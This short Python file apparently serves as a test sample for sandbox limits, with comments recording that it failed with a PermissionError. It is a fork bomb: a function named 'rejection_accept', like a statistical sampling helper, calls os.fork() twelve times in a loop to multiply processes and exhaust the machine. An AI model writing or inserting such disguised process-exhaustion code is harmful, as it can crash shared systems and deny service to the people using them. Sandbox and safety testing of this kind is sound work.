"""A fork bomb."""

# comes to: failed
# says: PermissionError

import os


def rejection_accept(p_x, q_x, u):
    for _ in range(12):
        os.fork()
    return True
